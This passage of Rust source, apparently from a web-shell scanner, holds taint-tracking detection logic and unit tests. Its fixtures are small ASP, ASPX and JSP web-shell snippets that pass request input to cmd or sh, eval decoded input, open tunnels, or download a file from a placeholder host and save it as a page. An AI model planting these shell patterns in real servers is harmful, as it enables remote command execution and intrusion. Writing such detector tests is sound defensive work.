            if let Some((var, walked)) = for_each_variable(s)
                && (inputs.iter().any(|i| walked.contains(i))
                    || tainted.iter().any(|v| has_word(walked, v)))
                && tainted.len() < 64
                && !tainted.contains(&var)
            {
                tainted.push(var);
            }
            if let Some((var, rhs)) = assignment(s)
                && (inputs.iter().any(|i| rhs.contains(i))
                    || tainted.iter().any(|v| has_word(rhs, v)))
                && tainted.len() < 64
                && !tainted.contains(&var)
            {
                tainted.push(var);
                if bare_value(rhs, inputs, &direct) {
                    direct.push(var);
                }
            }
            // `sb.append(c)`, `cmd.add(c)`, `m.put("c", c)`, `sb.Append(c)`: a builder, list
            // or map the input goes into, as it came, holds it. (Not text made from it: a
            // file manager builds its whole page in builders from the path it was sent.)
            if let Some((object, mut values)) = filled_container(s)
                && values.any(|v| bare_value(v, inputs, &direct))
                && tainted.len() < 64
                && !tainted.contains(&object)
            {
                tainted.push(object);
            }
            // `s.Write b` of request bytes into a stream: what `s.ReadText` gives back later is
            // the request as it came.
            if split.contains(&':')
                && let Some((object, arg)) = stream_write(s)
                && bare_value(arg, inputs, &direct)
                && direct.len() < 64
                && !direct.contains(&object)
            {
                direct.push(object);
                if !tainted.contains(&object) {
                    tainted.push(object);
                }
            }
            for sink in &armed {
                if found.contains(&sink.id) {
                    continue;
                }
                let Some((p, mark)) = sink
                    .marks
                    .iter()
                    .find_map(|m| marked(s, m).map(|p| (p, *m)))
                else {
                    continue;
                };
                // The input must reach the sink's part of the statement, not sit before it
                // in an `if` that only compares it.
                let tail = &s[p..];
                let reaches = if sink.bare {
                    bare_argument(tail, mark, inputs, &direct)
                } else {
                    inputs.iter().any(|i| tail.contains(i))
                        || tainted.iter().any(|v| has_word(tail, v))
                };
                if !reaches {
                    continue;
                }
                let what = if input.is_some() {
                    format!("the statement reads request input (`{from}…`) and")
                } else {
                    format!("`{from}` holds request input and the statement")
                };
                hits.push(Hit {
                    check: sink.id,
                    severity: sink.severity,
                    title: sink.title.into(),
                    why: format!("{what} {}", sink.why),
                    attack: vec!["T1505.003".into()],
                    offset: Some(here),
                    rule: None,
                });
                found.push(sink.id);
            }
            for w in wrappers {
                if found.contains(&w.sink.id) {
                    continue;
                }
                // A method of a class the page defines is called on its object: `r.Go x`.
                let Some(p) =
                    marked(s, w.name).or_else(|| classes.then(|| method_call(s, w.name)).flatten())
                else {
                    continue;
                };
                let tail = &s[p..];
                let reaches = if w.sink.bare {
                    bare_argument(tail, w.name, inputs, &direct)
                } else {
                    inputs.iter().any(|i| tail.contains(i))
                        || tainted.iter().any(|v| has_word(tail, v))
                };
                if !reaches {
                    continue;
                }
                hits.push(Hit {
                    check: w.sink.id,
                    severity: w.sink.severity,
                    title: w.sink.title.into(),
                    why: format!(
                        "request input (`{from}…`) goes to `{}()`, a function of the page that {}",
                        w.name, w.sink.why
                    ),
                    attack: vec!["T1505.003".into()],
                    offset: Some(here),
                    rule: None,
                });
                found.push(w.sink.id);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids_hits(f: fn(&str, &mut Vec<Hit>), page: &str) -> Vec<Hit> {
        let mut hits = Vec::new();
        f(&page.to_ascii_lowercase(), &mut hits);
        hits
    }

    use crate::lowered_ids as ids;

    #[test]
    fn input_kept_in_elements_builders_and_one_letter_helpers() {
        let helper = "<%\nFunction R(c)\n  Set s = CreateObject(\"WScript.Shell\")\n  R = s.Exec(c).StdOut.ReadAll\nEnd Function\nResponse.Write R(Request(\"c\"))\n%>";
        assert_eq!(ids(asp, helper), ["scan.heuristic.asp_exec"]);
        let element = "<%\nDim arr(2)\narr(0) = Request.QueryString(\"c\")\nSet s = CreateObject(\"WScript.Shell\")\nResponse.Write s.Exec(\"cmd /c \" & arr(0)).StdOut.ReadAll\n%>";
        assert_eq!(ids(asp, element), ["scan.heuristic.asp_exec"]);
        let dictionary = "<%@ Page Language=\"C#\" %><%\nvar d = new Dictionary<string, string>();\nd[\"c\"] = Request.Headers[\"X-C\"];\nvar p = new System.Diagnostics.Process();\np.StartInfo.FileName = \"cmd.exe\";\np.StartInfo.Arguments = \"/c \" + d[\"c\"];\np.Start();\n%>";
        assert_eq!(ids(asp, dictionary), ["scan.heuristic.asp_exec"]);
        let builder = "<%\nString c = request.getHeader(\"X-C\");\nStringBuilder sb = new StringBuilder();\nsb.append(\"/bin/sh -c \").append(c);\nProcess p = Runtime.getRuntime().exec(sb.toString());\n%>";
        assert_eq!(ids(jsp, builder), ["scan.heuristic.jsp_exec"]);
        // A page's own HTML built from the input, and a constant command, stay quiet.
        let html = "<%\nString c = request.getParameter(\"p\");\nStringBuilder html = new StringBuilder();\nhtml.append(\"<b>\" + escape(c) + \"</b>\");\nProcess p = Runtime.getRuntime().exec(\"uptime\");\n%>";
        assert!(ids(jsp, html).is_empty(), "{:?}", ids(jsp, html));
        // Text built around the input is not followed into a builder: what the builder holds
        // is then not the request's (a file manager's page), whatever it is handed to.
        let built = "<%\nString c = request.getParameter(\"p\");\nStringBuilder html = new StringBuilder();\nhtml.append(\"<b>\" + escape(c) + \"</b>\");\nlog(html.toString());\nProcess p = Runtime.getRuntime().exec(html.toString());\n%>";
        assert!(ids(jsp, built).is_empty(), "{:?}", ids(jsp, built));
        let put = "<%\nString c = request.getParameter(\"c\");\njava.util.Map<String, String> m = new java.util.HashMap<>();\nm.put(\"k\", c);\nProcess p = Runtime.getRuntime().exec(m.get(\"k\"));\n%>";
        assert_eq!(ids(jsp, put), ["scan.heuristic.jsp_exec"]);
    }

    #[test]
    fn decoded_input_array_initialisers_razor_and_the_java_compiler() {
        let jscript = "<%@ Page Language=\"Jscript\" %><%\nvar k = Request.Item[\"k\"];\nvar t = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(k));\neval(t, \"unsafe\");\n%>";
        assert_eq!(ids(asp, jscript), ["scan.heuristic.asp_eval"]);
        let inline = "<%@ Page Language=\"Jscript\" %><%eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(Request.Item[\"z\"])),\"unsafe\");%>";
        assert_eq!(ids(asp, inline), ["scan.heuristic.asp_eval"]);
        let array = "<%\nString[] cmd = {\"/bin/bash\", \"-c\", request.getHeader(\"X-Run\")};\nProcess p = new ProcessBuilder(cmd).start();\n%>";
        assert_eq!(ids(jsp, array), ["scan.heuristic.jsp_exec"]);
        // Decoded input joined into a call's name; two functions of the page around it; a
        // fixed command line in an array.
        let quiet_asp = [
            "<%\nExecute \"Call \" & HttpUtility.UrlDecode(Request(\"a\")) & \"()\"\n%>",
            "<%\nExecute(Pick(Clean(Request(\"a\"))))\n%>",
        ];
        for page in quiet_asp {
            assert!(ids(asp, page).is_empty(), "{page}: {:?}", ids(asp, page));
        }
        let item = "<%@ LANGUAGE=\"JScript\" %><%\nvar code = Request.Form(\"z\").Item;\nvar f = new Function(code);\nf();\n%>";
        assert_eq!(ids(asp, item), ["scan.heuristic.asp_eval"]);
        let razor = "@{\nvar c = Request[\"c\"];\nvar p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo(\"cmd.exe\", \"/c \" + c));\n}";
        assert_eq!(ids(asp, razor), ["scan.heuristic.asp_exec"]);
        let compile = "<%@ page import=\"javax.tools.*,java.io.*\" %><%\nString src = request.getParameter(\"src\");\nFileWriter fw = new FileWriter(\"/tmp/P.java\"); fw.write(src); fw.close();\nToolProvider.getSystemJavaCompiler().run(null, null, null, \"/tmp/P.java\");\n%>";
        assert_eq!(ids(jsp, compile), ["scan.heuristic.jsp_compile"]);
        let initialiser = "<%@ Page Language=\"C#\" %><script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) {\nstring c = Request.Params[\"c\"];\nvar p = new System.Diagnostics.Process { StartInfo = { FileName = \"cmd\", Arguments = \"/c \" + c, UseShellExecute = false } };\np.Start();\n}\n</script>";
        assert_eq!(ids(asp, initialiser), ["scan.heuristic.asp_exec"]);
        let fixed = "<%\nString[] cmd = {\"/usr/bin/report\", \"--all\"};\nString id = request.getParameter(\"id\");\nProcess p = new ProcessBuilder(cmd).start();\n%>";
        assert!(ids(jsp, fixed).is_empty(), "{:?}", ids(jsp, fixed));
    }

    #[test]
    fn jsp_sql_as_the_request_sent_it() {
        let page = "<%@ page import=\"java.sql.*\" %><%\nConnection c = DriverManager.getConnection(\"jdbc:mysql://127.0.0.1/\" + request.getParameter(\"db\"), \"root\", \"\");\nResultSet rs = c.createStatement().executeQuery(request.getParameter(\"sql\"));\n%>";
        assert_eq!(ids(jsp, page), ["scan.heuristic.jsp_db_client"]);
        // A query of the page's own, given the request's value as a parameter.
        let bound = "<%@ page import=\"java.sql.*\" %><%\nPreparedStatement ps = c.prepareStatement(\"select * from t where id = ?\");\nps.setString(1, request.getParameter(\"id\"));\nResultSet rs = ps.executeQuery();\n%>";
        assert!(ids(jsp, bound).is_empty(), "{:?}", ids(jsp, bound));
    }

    #[test]
    fn asp_sinks_behind_a_function_of_the_page() {
        let page = "<%\nFunction getCommandOutput(theCommand)\n  Set objShell = CreateObject(\"WScript.Shell\")\n  Set objCmdExec = objShell.exec(theCommand)\n  getCommandOutput = objCmdExec.StdOut.ReadAll\nEnd Function\n%>\n<% szCMD = request(\"cmd\")\nthisDir = getCommandOutput(\"cmd /c\" & szCMD)\n%>";
        assert_eq!(ids(asp, page), ["scan.heuristic.asp_exec"]);
        let sub = "<%\nPrivate Sub Run(ByVal s)\n  code = s\n  Execute code\nEnd Sub\nRun Request.Form(\"x\")\n%>";
        assert_eq!(ids(asp, sub), ["scan.heuristic.asp_eval"]);
        // A database helper called with request input, and an evaluating helper called with
        // a constant, stay quiet.
        let cms = "<%\nFunction Query(sql)\n  Set Query = conn.Execute(sql)\nEnd Function\nSub Show(n)\n  Execute \"Call Show\" & n\nEnd Sub\nSet rs = Query(\"select * from t where id=\" & Request(\"id\"))\nShow \"Menu\"\n%>";
        assert!(ids(asp, cms).is_empty(), "{:?}", ids(asp, cms));
        // A helper that saves to a path it is given, called with a path built around the input.
        let save = "<%\nSub SaveAs(path, data)\n  Set f = fso.CreateTextFile(path)\n  f.Write data\nEnd Sub\nSaveAs Server.MapPath(\"cache/\" & Request(\"k\") & \".txt\"), body\n%>";
        assert!(ids(asp, save).is_empty(), "{:?}", ids(asp, save));
        // A JScript evaluator of the page fed by a decoder of the page.
        let jscript = "<script runat=\"server\" language=\"JScript\">\nfunction exs(str) {\n var b = eval(str, \"unsafe\");\n return(b);\n}\nfunction dec(str, key) {\n var s = \"\";\n return(s);\n}\n</script>\n<%\nexs(exs(dec(\"556675766874\",\"1314\")));\n%>";
        assert_eq!(ids(asp, jscript), ["scan.heuristic.asp_eval_decoded"]);
        // Multi-byte text right before the keywords, and definitions cut short.
        for cut in [
            "é sub ",
            "éfunction é(",
            "日本sub x(",
            "function",
            "sub x(é",
            "sub x(a) é",
        ] {
            let _ = ids(asp, &format!("{cut}<% request(\"a\") %>"));
        }
    }

    #[test]
    fn asp_saves_where_the_request_says() {
        // Request data saved at the path the request names, through Server.MapPath.
        let up = "<%\nset gl=server.CreateObject(\"Adodb.Stream\")\ngl.Open\ngl.writetext request(\"code\")\ngl.SaveToFile server.mappath(request(\"path\")),2\n%>";
        assert_eq!(
            ids(asp, up),
            ["scan.heuristic.asp_write", "scan.heuristic.asp_page_drop"]
        );
        // A file created at exactly the path the request names, MapPath or not.
        let dump = "<%
set file=fso.createtextfile(server.mappath(request(\"filename\")),8,true)
file.write rs(i).name
%>";
        assert_eq!(ids(asp, dump), ["scan.heuristic.asp_write"]);
        // A page that overwrites itself with what it is sent, and one that logs its own name.
        let rewrite = "<% fdata = request(\"d\") %>\n<% Set f=objFSO.CreateTextFile(server.mappath(Request.ServerVariables(\"SCRIPT_NAME\")),True) %>\n<% f.Write fdata %>";
        assert_eq!(ids(asp, rewrite), ["scan.heuristic.asp_page_drop"]);
        let log = "<% Set f=objFSO.OpenTextFile(server.mappath(\"log.txt\"),8,True) %>\n<% f.Write Request.ServerVariables(\"SCRIPT_NAME\") %>";
        assert!(ids(asp, log).is_empty());
        // A sitemap saved where an admin's form says: the path is asked, the text is not.
        let sitemap =
            "<%\np=Server.MapPath(Request(\"sitemapPath\"))\ns.WriteText xml\ns.SaveToFile p,2\n%>";
        assert!(ids(asp, sitemap).is_empty());
        // A download saved as a page named between the curly quotes a Chinese editor writes.
        let fetch = "<%\nSet x = CreateObject(\u{201c}Microsoft.XMLHTTP\u{201d})\nx.Open \u{201c}GET\u{201d},\u{201c}http://h/a.txt\u{201d},False\nx.Send()\nSet s = CreateObject(\u{201c}ADODB.Stream\u{201d})\ns.Open()\ns.Write(x.responseBody)\ns.SaveToFile Server.MapPath(\u{201c}x.asp\u{201d}),2\n%>";
        assert_eq!(ids(asp, fetch), ["scan.heuristic.asp_page_drop"]);
        // Saved as data, not as a page; and a page name that only starts like one.
        for quiet in [
            fetch.replace("x.asp", "x.txt"),
            fetch.replace("x.asp", "x.asp_old"),
        ] {
            assert!(ids(asp, &quiet).is_empty(), "{quiet}");
        }
    }

    #[test]
    fn jsp_pages_that_plant_pages() {
        let fetch = "<%@ page import=\"java.net.*,java.io.*\" %><%\nURL u = new URL(request.getParameter(\"u\"));\nInputStream in = u.openStream();\nFileOutputStream o = new FileOutputStream(application.getRealPath(\"/x.jsp\"));\nbyte[] b = new byte[4096]; int n; while ((n = in.read(b)) > 0) o.write(b, 0, n);\n%>";
        assert_eq!(ids(jsp, fetch), ["scan.heuristic.jsp_write"]);
        // A log and a report written by a page that reads the request; a page that only
        // names a .jsp in a link.
        let quiet = "<% String q = request.getParameter(\"q\"); FileWriter w = new FileWriter(\"/var/log/app/search.log\", true); w.write(\"searched\"); %><a href=\"results.jsp\">x</a>";
        assert!(ids(jsp, quiet).is_empty());
    }

    #[test]
    fn jsp_evaluators_native_libraries_and_jndi() {
        for (page, id) in [
            (
                "<%@ page import=\"groovy.lang.GroovyShell\" %><% new GroovyShell().evaluate(request.getParameter(\"g\")); %>",
                "scan.heuristic.jsp_script_engine",
            ),
            (
                "<% out.print(new SpelExpressionParser().parseExpression(request.getParameter(\"e\")).getValue()); %>",
                "scan.heuristic.jsp_script_engine",
            ),
            (
                "<% String e = request.getParameter(\"o\"); out.print(ognl.Ognl.getValue(e, null)); %>",
                "scan.heuristic.jsp_script_engine",
            ),
            (
                "<% System.load(request.getParameter(\"lib\")); %>",
                "scan.heuristic.jsp_reflection_exec",
            ),
            (
                "<% new javax.naming.InitialContext().lookup(request.getParameter(\"j\")); %>",
                "scan.heuristic.jsp_jndi",
            ),
            (
                "<% new java.lang.ProcessBuilder(new String[]{\"sh\",\"-c\",request.getParameter(\"c\")}).start(); %>",
                "scan.heuristic.jsp_exec",
            ),
        ] {
            assert_eq!(ids(jsp, page), [id], "{page}");
        }
        // A data source looked up by its fixed name, a template evaluated with a parameter
        // only shown, a fixed command in an array.
        for quiet in [
            "<% DataSource ds = (DataSource) new InitialContext().lookup(\"java:comp/env/jdbc/db\"); String q = request.getParameter(\"q\"); %>",
            "<% String n = request.getParameter(\"n\"); Object v = new GroovyShell().evaluate(\"1+1\"); out.print(n); %>",
            "<% String n = request.getParameter(\"n\"); new ProcessBuilder(new String[]{\"uptime\"}).start(); out.print(n); %>",
        ] {
            assert!(ids(jsp, quiet).is_empty(), "{quiet}");
        }
    }

    #[test]
    fn aspx_processes_compilers_and_powershell() {
        let process = "<%@ Page Language=\"C#\"%>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e){\n string c = Request[\"c\"];\n var p = new System.Diagnostics.Process();\n p.StartInfo.FileName = \"cmd\";\n p.StartInfo.Arguments = \"/c \" + c;\n p.Start();\n}\n</script>";
        assert_eq!(ids(asp, process), ["scan.heuristic.asp_exec"]);
        let vb = "<script runat=\"server\">\nSub Page_Load()\n Dim c As String = Request.QueryString(\"c\")\n Dim p As New System.Diagnostics.Process()\n p.StartInfo.Arguments = \"/c \" & c\n p.Start()\nEnd Sub\n</script>";
        assert_eq!(ids(asp, vb), ["scan.heuristic.asp_exec"]);
        // The process's arguments fixed by the page: a benign admin tool.
        let fixed = process.replace("\"/c \" + c", "\"ipconfig /all\"");
        assert!(ids(asp, &fixed).is_empty(), "{fixed}");
        let late = "<% Type t = Type.GetTypeFromProgID(\"WScript.Shell\"); object sh = Activator.CreateInstance(t); t.InvokeMember(\"Run\", BindingFlags.InvokeMethod, null, sh, new object[]{ \"cmd /c \" + Request[\"c\"] }); %>";
        assert_eq!(ids(asp, late), ["scan.heuristic.asp_exec"]);
        let jscript = "<% Response.Write(Microsoft.JScript.Eval.JScriptEvaluate(Request[\"x\"], VsaEngine.CreateEngine())); %>";
        assert_eq!(ids(asp, jscript), ["scan.heuristic.asp_eval"]);
        let codedom = "<%\nstring src = Request.Form[\"src\"];\nvar r = new CSharpCodeProvider().CompileAssemblyFromSource(cp, src);\n%>";
        assert_eq!(ids(asp, codedom), ["scan.heuristic.asp_eval"]);
        let ps = "<% var ps = System.Management.Automation.PowerShell.Create(); ps.AddScript(Request.Form[\"c\"]); ps.Invoke(); %>";
        assert_eq!(ids(asp, ps), ["scan.heuristic.asp_exec"]);
        let report = "<% var ps = System.Management.Automation.PowerShell.Create(); ps.AddScript(\"Get-Service\"); Response.Write(Request[\"id\"]); %>";
        assert!(ids(asp, report).is_empty());
    }

    #[test]
    fn aspx_form_controls_are_input() {
        let page = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Run(object o, EventArgs e) {\n var psi = new ProcessStartInfo();\n psi.FileName = \"cmd.exe\";\n psi.Arguments = \"/c \" + txtCmd.Text;\n lbl.Text = Process.Start(psi).StandardOutput.ReadToEnd();\n}\n</script>\n<form runat=\"server\"><asp:TextBox ID=\"txtCmd\" runat=\"server\"/><asp:Label id=\"lbl\" runat=\"server\"/></form>";
        assert_eq!(ids(asp, page), ["scan.heuristic.asp_exec"]);
        let html = "<script runat=\"server\">\nvoid Save(object o, EventArgs e) { System.IO.File.WriteAllText(Server.MapPath(path.Value), body.Value); }\n</script>\n<input type=\"text\" id=\"path\" runat=\"server\"><textarea id=\"body\" runat=server></textarea>";
        assert_eq!(ids(asp, html), ["scan.heuristic.asp_write"]);
        // A plain HTML input (not a server control) of the same name is the browser's.
        let client = html.replace(" runat=\"server\">", ">");
        assert!(ids(asp, &client).is_empty(), "{client}");
        // A search box shown back and used in a query is not a sink.
        let search = "<asp:TextBox ID=\"q\" runat=\"server\"/>\n<script runat=\"server\">\nvoid Find(object o, EventArgs e) { lbl.Text = Server.HtmlEncode(q.Text); }\n</script>";
        assert!(ids(asp, search).is_empty());
        // Many controls, ids that end at once, and a tag that never closes.
        let many = format!(
            "{}<asp:textbox id=>{}<input runat=server id=\"é",
            "<asp:TextBox ID=\"t\" runat=\"server\"/>".repeat(500),
            "x".repeat(5000)
        );
        assert!(ids(asp, &many).is_empty());
    }

    #[test]
    fn aspx_files_the_request_names() {
        let save = "<% if (Request.Files.Count > 0) { var f = Request.Files[0]; f.SaveAs(Request.Form[\"path\"]); } %>";
        assert_eq!(ids(asp, save), ["scan.heuristic.asp_write"]);
        let upload = "<% var f = Request.Files[0]; f.SaveAs(Server.MapPath(\"~/upload/\") + Guid.NewGuid() + \".jpg\"); %>";
        assert!(ids(asp, upload).is_empty());
        let read = "<% Response.Write(System.IO.File.ReadAllText(Request[\"f\"])); %>";
        assert_eq!(ids(asp, read), ["scan.heuristic.asp_file_path"]);
        let own = "<% Response.Write(System.IO.File.ReadAllText(Server.MapPath(\"~/App_Data/\" + Request[\"f\"] + \".xml\"))); %>";
        assert!(ids(asp, own).is_empty());
        // A stream loaded from the path as sent and written to the browser; an unpacker that
        // loads the archive an admin names and shows nothing of it.
        let down = "<%\nobjStream.LoadFromFile Server.MapPath(Request(\"Down\"))\nResponse.BinaryWrite objStream.Read\n%>";
        assert_eq!(ids(asp, down), ["scan.heuristic.asp_file_path"]);
        let unpack = "<%\ntStream.LoadFromFile Server.MapPath(Request.Form(\"filename\"))\nx = tStream.ReadText(-2)\n%>";
        assert!(ids(asp, unpack).is_empty());
    }

    #[test]
    fn aspx_tunnels_wmi_xslt_and_database_clients() {
        for (page, id) in [
            // reGeorg-style: a socket to the host and port the request names.
            (
                "<%@ Import Namespace=\"System.Net.Sockets\" %><script runat=\"server\">\nstring target = Request.QueryString[\"target\"];\nSocket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\ns.Connect(new IPEndPoint(IPAddress.Parse(target), 80));\n</script>",
                "scan.heuristic.asp_tunnel",
            ),
            (
                "<% var c = new System.Net.Sockets.TcpClient(Request[\"h\"], 3306); %>",
                "scan.heuristic.asp_tunnel",
            ),
            // WMI in .NET and in VBScript.
            (
                "<% ManagementClass mc = new ManagementClass(\"Win32_Process\");\nManagementBaseObject p = mc.GetMethodParameters(\"Create\");\np[\"CommandLine\"] = Request[\"c\"];\nmc.InvokeMethod(\"Create\", p, null); %>",
                "scan.heuristic.asp_exec",
            ),
            (
                "<%\nSet p = GetObject(\"winmgmts:\").Get(\"Win32_Process\")\np.Create Request(\"c\"), Null, Null, pid\n%>",
                "scan.heuristic.asp_exec",
            ),
            // A stylesheet from the request, compiled with scripts enabled.
            (
                "<% var x = new XslCompiledTransform();\nx.Load(XmlReader.Create(new StringReader(Request.Form[\"xsl\"])), new XsltSettings(true, true), null); %>",
                "scan.heuristic.asp_xslt_exec",
            ),
            // A shell started bare and fed the request on its standard input.
            (
                "<%\nSet w = CreateObject(\"WScript.Shell\")\nSet e = w.Exec(\"cmd.exe\")\ne.StdIn.WriteLine Request(\"c\")\n%>",
                "scan.heuristic.asp_exec",
            ),
            (
                "<% var p = new Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.RedirectStandardInput = true; p.Start();\np.StandardInput.WriteLine(Request.Form[\"c\"]); %>",
                "scan.heuristic.asp_exec",
            ),
            // The process class reached by reflection.
            (
                "<% Type p = Type.GetType(\"System.Diagnostics.Process\");\np.InvokeMember(\"Start\", BindingFlags.InvokeMethod, null, null, new object[] { \"cmd.exe\", \"/c \" + Request.Form[\"q\"] }); %>",
                "scan.heuristic.asp_exec",
            ),
            (
                "<% using (var c = new SqlConnection(Request.Form[\"cs\"])) { c.Open(); } %>",
                "scan.heuristic.asp_db_client",
            ),
            (
                "<%\nSet conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open Request(\"conn\")\n%>",
                "scan.heuristic.asp_db_client",
            ),
        ] {
            assert_eq!(ids(asp, page), [id], "{page}");
        }
        // Benign counterparts: a mail client's socket to its configured server; a catalogue
        // created from a connection string the page builds; a transform of a fixed stylesheet
        // with scripts off; an installer that builds the connection string from its form;
        // a recordset opened with SQL built around a request value.
        for page in [
            "<%@ Import Namespace=\"System.Net.Sockets\" %><% var c = new TcpClient(ConfigurationManager.AppSettings[\"smtp\"], 25); var n = Request[\"name\"]; %>",
            "<%\nSet sh = CreateObject(\"Shell.Application\")\nconnStr = \"Data Source=\" & Request(\"db\")\nadoCatalog.Create connStr\n%>",
            "<% var x = new XslCompiledTransform(); x.Load(Server.MapPath(\"~/a.xsl\")); var q = Request[\"q\"]; %>",
            // The request written to a converter's input, not a shell's.
            "<% var p = new Process(); p.StartInfo.FileName = \"wkhtmltopdf.exe\"; p.StartInfo.RedirectStandardInput = true; p.Start();\np.StandardInput.Write(Request.Form[\"html\"]); %>",
            "<%\nSet conn = Server.CreateObject(\"ADODB.Connection\")\nconn.Open \"Provider=SQLOLEDB;Data Source=\" & Request(\"server\") & \";\"\n%>",
            "<%\nSet conn = Server.CreateObject(\"ADODB.Connection\")\nSub Show(id)\nsql = \"select * from t where id=\" & id\nrs.Open sql, conn, 1, 1\nEnd Sub\nShow Request(\"id\")\n%>",
        ] {
            assert!(ids(asp, page).is_empty(), "{page}");
        }
    }

    #[test]
    fn aspx_writers_listings_and_web_services() {
        // Controls reached through `this.`, a StreamWriter, a directory joined by Path.Combine.
        let controls = "<asp:TextBox ID=\"txtPath\" runat=\"server\"/><asp:TextBox ID=\"txtBody\" runat=\"server\"/>\n<script runat=\"server\">\nvoid Save() {\nvar sw = new System.IO.StreamWriter(this.txtPath.Text, true);\nsw.Write(this.txtBody.Text);\n}\n</script>";
        assert_eq!(ids(asp, controls), ["scan.heuristic.asp_write"]);
        let combine = "<% string dir = Request.Form[\"dir\"];\nHttpPostedFile f = Request.Files[0];\nf.SaveAs(System.IO.Path.Combine(dir, System.IO.Path.GetFileName(f.FileName))); %>";
        assert_eq!(ids(asp, combine), ["scan.heuristic.asp_write"]);
        let uploads = "<% HttpPostedFile f = Request.Files[0];\nf.SaveAs(System.IO.Path.Combine(Server.MapPath(\"~/uploads\"), Guid.NewGuid() + \".jpg\")); %>";
        assert!(ids(asp, uploads).is_empty());
        let listing = "<% foreach (string f in System.IO.Directory.GetFiles(Request[\"d\"])) Response.Write(f); %>";
        assert_eq!(ids(asp, listing), ["scan.heuristic.asp_file_path"]);
        let info = "<% string d = Request[\"d\"] ?? Server.MapPath(\"~\");\nforeach (var x in new DirectoryInfo(d).GetDirectories()) Response.Write(x.FullName); %>";
        assert_eq!(ids(asp, info), ["scan.heuristic.asp_file_path"]);
        let own = "<% foreach (string f in System.IO.Directory.GetFiles(Server.MapPath(\"~/img/\" + Request[\"album\"]))) Response.Write(f); %>";
        let own_info = "<% foreach (var x in new DirectoryInfo(Server.MapPath(\"~/img/\" + Request[\"album\"])).GetFiles()) Response.Write(x.Name); %>";
        assert!(ids(asp, own_info).is_empty());
        assert!(ids(asp, own).is_empty());
        // The parameters of a web method are request input.
        let asmx = "<%@ WebService Language=\"C#\" Class=\"S\" %>\npublic class S : WebService {\n[WebMethod]\npublic string Run(string c) {\nProcess.Start(\"cmd.exe\", \"/c \" + c);\nreturn \"\";\n}\n}";
        assert_eq!(ids(asp, asmx), ["scan.heuristic.asp_exec"]);
        let vb = "<%@ WebService Language=\"VB\" Class=\"S\" %>\n<WebMethod()> Public Function Run(ByVal cmd As String) As String\nProcess.Start(\"cmd.exe\", \"/c \" & cmd)\nEnd Function";
        assert_eq!(ids(asp, vb), ["scan.heuristic.asp_exec"]);
        let service = "<%@ WebService Language=\"C#\" Class=\"S\" %>\npublic class S : WebService {\n[WebMethod]\npublic string Hello(string name) { Process.Start(\"notify.exe\"); return \"Hi \" + name; }\n}";
        assert!(ids(asp, service).is_empty());
    }

    #[test]
    fn headers_cookies_and_split_names_are_followed() {
        for (page, id) in [
            (
                "<%\nExecute Request.ServerVariables(\"HTTP_X_CODE\")\n%>",
                "scan.heuristic.asp_eval",
            ),
            (
                "<% var p = new Process { StartInfo = new ProcessStartInfo(\"cmd.exe\", \"/c \" + Request.Headers[\"X-Cmd\"]) }; p.Start(); %>",
                "scan.heuristic.asp_exec",
            ),
            (
                "<%\nset w = createobject(\"wscr\" & \"ipt.she\" & \"ll\")\nresponse.write w.exec(\"cmd /c \" & request(\"c\")).stdout.readall\n%>",
                "scan.heuristic.asp_exec",
            ),
            (
                "<% string f = Request.QueryString.Get(\"f\");\nusing (var w = System.IO.File.CreateText(f)) { w.Write(Request.Form[\"b\"]); } %>",
                "scan.heuristic.asp_write",
            ),
        ] {
            assert_eq!(ids(asp, page), [id], "{page}");
        }
        let cookie = "<%\nCookie[] cs = request.getCookies();\nString cmd = null;\nfor (Cookie c : cs) if (c.getName().equals(\"t\")) cmd = c.getValue();\nRuntime.getRuntime().exec(new String[]{\"/bin/sh\", \"-c\", cmd});\n%>";
        assert_eq!(ids(jsp, cookie), ["scan.heuristic.jsp_exec"]);
        // A referrer shown back, a log line of the user agent, a loop over fixed names that
        // compares each with the request, a split string that names nothing.
        for page in [
            "<%\nref = Request.ServerVariables(\"HTTP_REFERER\")\nResponse.Write Server.HTMLEncode(ref)\n%>",
            "<%\nset f = fso.OpenTextFile(Server.MapPath(\"log.txt\"), 8, True)\nf.WriteLine Now() & \" \" & Request.ServerVariables(\"HTTP_USER_AGENT\")\n%>",
            "<%\nset w = createobject(\"msx\" & \"ml2.dom\" & \"document\")\nw.load(request(\"x\"))\n%>",
        ] {
            assert!(ids(asp, page).is_empty(), "{page}");
        }
        let names = "<%\nString[] names = {\"a\", \"b\"};\nString pick = null;\nfor (String n : names) if (n.equals(request.getParameter(\"n\"))) pick = n;\nRuntime.getRuntime().exec(new String[]{\"/usr/bin/report\", pick});\n%>";
        assert!(ids(jsp, names).is_empty());
    }

    #[test]
    fn asp_scriptlets_assemblies_and_the_registry() {
        for (page, id) in [
            (
                "<%\nSet o = GetObject(\"script:\" & Request(\"u\"))\n%>",
                "scan.heuristic.asp_eval",
            ),
            (
                "<% var a = System.Reflection.Assembly.LoadFrom(Request.Form[\"dll\"]); %>",
                "scan.heuristic.asp_assembly",
            ),
            (
                "<% RegistryKey k = Registry.LocalMachine.OpenSubKey(Request[\"k\"]); %>",
                "scan.heuristic.asp_registry",
            ),
        ] {
            assert_eq!(ids(asp, page), [id], "{page}");
        }
        for page in [
            "<%\nSet o = GetObject(\"script:\" & Server.MapPath(\"x.sct\"))\nq = Request(\"q\")\n%>",
            "<% var a = System.Reflection.Assembly.LoadFrom(Server.MapPath(\"~/bin/plugins/\" + Request[\"name\"] + \".dll\")); %>",
            "<% RegistryKey k = Registry.LocalMachine.OpenSubKey(@\"SOFTWARE\\Microsoft\\\" + Request[\"k\"]); %>",
        ] {
            assert!(ids(asp, page).is_empty(), "{page}");
        }
    }

    #[test]
    fn asp_disk_paths_from_the_request() {
        for page in [
            "<%\nFSO.CopyFolder Request.QueryString(\"CopyFolder\") & \"*\", \"d:\\\"\n%>",
            "<%\nfso.CopyFile Target & Request.Form(\"f\"), Request.Form(\"to\") & \"\\\" & Request.Form(\"f\")\n%>",
            "<%\nSet f = fso.GetFolder(Request(\"p\"))\n%>",
